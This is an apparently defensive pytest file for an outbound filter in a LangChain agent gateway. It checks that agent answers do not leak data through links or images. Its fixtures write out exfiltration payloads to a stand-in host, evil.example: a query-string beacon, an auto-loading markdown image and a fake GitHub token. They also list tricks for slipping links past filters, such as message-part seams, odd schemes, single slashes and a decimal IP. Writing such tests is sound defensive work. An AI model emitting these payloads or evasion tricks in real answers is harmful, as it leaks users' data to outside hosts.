"""A link or key that hides at the seam of two parts of an answer, or behind a letter that clients do not mind."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage

from checkvalve.filters.links import links
from checkvalve.filters.outbound.judge import LinkOrigin
from checkvalve.filters.outbound.scan import scan_outbound
from checkvalve.gateway.langchain import CheckvalveMiddleware, user_message
from tests.fakes import ScriptedModel
from tests.gateway.world import World

pytestmark = pytest.mark.claim("C8")
LINK = "https://evil.example/p?q=4.1M"
KEY = "ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P"
PICTURE = "![x](https://evil.example/p.png?q=4.1M)"


def said(tmp_path: Path, parts: list[Any]) -> str:
    world = World.create(tmp_path)
    with world.open() as gateway:
        model = ScriptedModel(script=[AIMessage(content=parts)])
        agent = create_agent(model, world.tools(), middleware=[CheckvalveMiddleware(gateway)])
        state = agent.invoke({"messages": [user_message("How much was it?")]}, {"configurable": {"thread_id": "t"}})
    content = state["messages"][-1].content
    return (
        content
        if isinstance(content, str)
        else "\n".join(part if isinstance(part, str) else part["text"] for part in content)
    )


@pytest.mark.parametrize("before", ["x", "7", "_", "http", "-", "a@", "```\n", "<!--", "[", "\\"])
@pytest.mark.parametrize("hidden", [LINK, KEY, PICTURE, "evil.example/p?q=4.1M"])
def test_each_part_of_an_answer_is_clean_however_it_is_joined(tmp_path: Path, before: str, hidden: str) -> None:
    """A page shows each part in a paragraph of its own: what the seam hid from the filter is a link there."""
    shown = said(tmp_path, [{"type": "text", "text": before}, {"type": "text", "text": hidden}])
    assert hidden not in shown
    assert "evil.example" not in shown or "](" not in shown


def test_parts_that_carry_nothing_stay_parts(tmp_path: Path) -> None:
    assert said(tmp_path, [{"type": "text", "text": "It was"}, {"type": "text", "text": "4.1M."}]) == "It was\n4.1M."


@pytest.mark.parametrize("text", [f"_{LINK}_", f"x{LINK}", f"7{LINK}", "_www.evil.example/p?q=4.1M_", f"日{LINK}"])
def test_what_stands_before_an_address_does_not_hide_it(text: str) -> None:
    """Clients that make links of addresses begin one after an underscore, and many of them anywhere."""
    shown = scan_outbound(text).text
    assert "evil.example" not in shown
    assert any("evil.example" in (link.host or link.target) for link in links(text))


@pytest.mark.parametrize("scheme", ["ws", "wss", "webcal", "sftp", "smb", "feed"])
def test_other_addresses_that_clients_open_are_links(scheme: str) -> None:
    assert "evil.example" not in scan_outbound(f"see {scheme}://evil.example/p?q=4.1M").text


@pytest.mark.parametrize(
    "text", ["https:/2130706433/secret", "http:\\\\evil/secret", "see https:/evil/secret", "é https:/evil/secret"]
)
def test_an_address_without_a_dot_and_with_one_slash_is_looked_at(text: str) -> None:
    """Browsers mend the slashes; a quick look for signs of links must not need two of them, or a dot."""
    assert "secret" not in scan_outbound(text).text


def test_an_address_of_the_users_own_is_visited_by_no_picture() -> None:
    """It may be followed, and yet no client may visit it without a click: an image can use a definition, too."""
    link = "https://friend.example/confirm?token=8f3kz0a1b2c3d4e5f6a7"
    for text in (f"![x]({link})", f"![x][a]\n\n[a]: {link}", f"[a]: {link}\n\n![x][a]"):
        shown = scan_outbound(text, origins=lambda _: LinkOrigin.NAMED).text
        assert not [found for found in links(shown) if found.auto_fetch], shown
    assert scan_outbound(f"[x]({link})", origins=lambda _: LinkOrigin.NAMED).text == f"[x]({link})"
